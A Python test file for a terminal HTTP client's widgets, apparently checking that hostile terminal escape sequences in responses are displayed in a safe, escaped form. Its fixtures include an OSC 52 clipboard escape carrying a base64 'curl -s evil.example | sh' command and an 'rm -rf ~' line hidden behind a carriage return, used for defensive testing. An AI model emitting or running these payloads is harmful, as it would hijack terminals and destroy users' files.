"""Every place the workbench shows outside text holds the safe form; copying gives the real value.

tests/app/test_terminal_bytes.py checks the bytes a real terminal receives for Raw, Headers
and Tree; here Pilot drives the rest (status line, path bar, copy, Set Variables,
notifications, history pane, flow steps) and reads what the widgets hold.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

from rich.text import Text
from textual.widgets import Static, TabbedContent

from tests.app.conftest import click_node, find_node, send_and_wait
from tui.app.widgets.flow_view import step_cells
from tui.app.widgets.history_list import record_label
from tui.app.widgets.raw_view import RawView
from tui.app.widgets.response_tree import ResponseTree
from tui.app.widgets.set_variables import SetVariablesPanel
from tui.app.widgets.status_line import StatusLine
from tui.core.history_record import RecordSummary
from tui.core.paths import format_path
from tui.core.variables import Variables
from tui.sandbox import HOSTILE, Sandbox

SHOWN = "\\u001b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\\u0007\\u001b]0;pwned-title\\u0007"


def inert(text: str) -> bool:
    """Nothing a terminal would obey (newlines aside, which multi-line widgets lay out)."""
    return not any((ord(c) < 0x20 and c not in "\n") or 0x7F <= ord(c) <= 0x9F for c in text)


def shown(widget: Static) -> str:
    return str(widget.render())


def write_profiles(folder: Path, sandbox: Sandbox) -> None:
    (folder / "hostile-json.toml").write_text(
        textwrap.dedent(f"""\
            name = "hostile json"
            [request]
            method = "GET"
            url = "{sandbox.base_url}/fault/escapes?type=json"
            [[set_variables]]
            name = "nested.value"
            type = "variable"
            target = "hostile_value"
            [routes]
            success = "hostile-text"
            """)
    )
    (folder / "hostile-text.toml").write_text(
        textwrap.dedent(f"""\
            name = "hostile text"
            [request]
            method = "GET"
            url = "{sandbox.base_url}/fault/escapes"
            success_statuses = [201]
            [on_failure]
            variable = "why"
            """)
    )


async def test_status_tree_path_bar_copy_and_set_variables(
    make_app, tmp_path: Path, sandbox: Sandbox
) -> None:
    write_profiles(tmp_path, sandbox)
    app = make_app(tmp_path, tmp_path / "hostile-json.toml")
    async with app.run_test(size=(200, 40)) as pilot:
        await send_and_wait(pilot)
        status = shown(app.workbench.query_one(StatusLine))
        assert inert(status) and "200 OK " + SHOWN[:20] in status

        tree = app.workbench.query_one(ResponseTree)
        key_node = find_node(tree, format_path([HOSTILE]))
        assert key_node is not None
        assert inert(key_node.label.plain) and key_node.label.plain.startswith(SHOWN)
        assert any(span.style == "dim" for span in key_node.label.spans)  # escapes stand out

        await click_node(pilot, tree, key_node)
        await pilot.press("a")  # map the hostile key
        await pilot.pause()
        path_bar = shown(app.workbench.query_one("#path-text", Static))
        assert inert(path_bar) and '= "a key that is hostile"' in path_bar

        await click_node(pilot, tree, find_node(tree, "nested"))
        await click_node(pilot, tree, find_node(tree, "nested.value"))
        await pilot.press("y")
        await pilot.pause()
        assert app.clipboard == HOSTILE  # the real value is copied …
        note = shown(app.workbench.query_one("#path-text", Static))
        assert inert(note) and note.startswith("Copied value: " + SHOWN)  # … the safe form shown
        messages = [(n.title, n.message) for n in app._notifications]
        copied = [message for title, message in messages if title == "Copied value"]
        assert copied and copied[-1].startswith(SHOWN)
        assert all(inert(title) and inert(message) for title, message in messages)
        added = f"Added Set Variables row: {format_path([HOSTILE])}"
        assert any(message.startswith(added) for _, message in messages)

        panel = app.workbench.query_one(SetVariablesPanel)
        assert panel.rows[1].name == format_path([HOSTILE])
        assert panel.value_text(0).startswith('"' + SHOWN[:20]) and inert(panel.value_text(0))
        assert panel.value_text(1) == '"a key that is hostile"'


async def test_raw_headers_and_reason_of_a_text_body(make_app, tmp_path: Path, sandbox: Sandbox) -> None:
    write_profiles(tmp_path, sandbox)
    app = make_app(tmp_path, tmp_path / "hostile-text.toml")
    async with app.run_test(size=(200, 40)) as pilot:
        await send_and_wait(pilot)
        status = shown(app.workbench.query_one(StatusLine))
        assert inert(status) and "FAILURE" in status and "HTTP 200 OK " + SHOWN[:20] in status

        tabs = app.workbench.query_one("#response-tabs", TabbedContent)
        tabs.active = "tab-raw"
        await pilot.pause()
        raw = app.workbench.query_one(RawView)
        drawn = ["".join(segment.text for segment in raw.render_line(y)) for y in range(6)]
        assert all(inert(line) for line in drawn)
        assert drawn[1].startswith(SHOWN) and drawn[2].startswith("ls\\u000drm -rf ~ hidden-by-cr")

        headers = shown(app.workbench.query_one("#response-headers", Static))
        assert inert(headers) and "x-hostile: " + SHOWN in headers


def test_history_pane_and_flow_steps_show_escapes(sandbox: Sandbox, tmp_path: Path) -> None:
    summary = RecordSummary(
        id="r1",
        time="2026-11-29T10:00:00Z",
        method="GET",
        url="http://x/" + HOSTILE,
        status=200,
        route="failure",
        elapsed_ms=3.0,
        profile="p" + HOSTILE,
    )
    label = record_label(summary)
    assert isinstance(label, Text) and inert(label.plain) and SHOWN in label.plain

    from tui.core.flows import run_flow_sync

    write_profiles(tmp_path, sandbox)
    result = run_flow_sync(tmp_path / "hostile-json.toml", Variables())
    assert [step.stem for step in result.steps] == ["hostile-json", "hostile-text"]
    for step in result.steps:
        cells = [cell.plain for cell in step_cells(step)]
        assert all(inert(cell) for cell in cells), cells
    assert SHOWN in step_cells(result.steps[1])[4].plain  # the failure reason quotes the reason phrase
    assert SHOWN in step_cells(result.steps[0])[5].plain  # the variables it set


async def test_raw_find_marks_the_current_match_after_escapes(
    make_app, tmp_path: Path, sandbox: Sandbox
) -> None:
    """Find counts columns in the text as received; the screen shows escapes, which are longer."""
    write_profiles(tmp_path, sandbox)
    app = make_app(tmp_path, tmp_path / "hostile-text.toml")
    async with app.run_test(size=(200, 40)) as pilot:
        await send_and_wait(pilot)
        await pilot.press("ctrl+t", "f4")  # Tree → Raw
        await app.workers.wait_for_complete()
        await pilot.pause()
        raw = app.workbench.query_one(RawView)
        await pilot.press("slash", *"hidden-by-cr")
        await app.workers.wait_for_complete()
        await pilot.pause()
        await pilot.press("enter")
        await pilot.pause()
        line = next(i for i, text in enumerate(raw.lines) if "hidden-by-cr" in text)
        strip = raw.render_line(line - int(raw.scroll_offset.y))
        current = [
            segment.text
            for segment in strip
            if segment.style and segment.style.bold and segment.style.bgcolor
        ]
        assert "".join(current) == "hidden-by-cr"
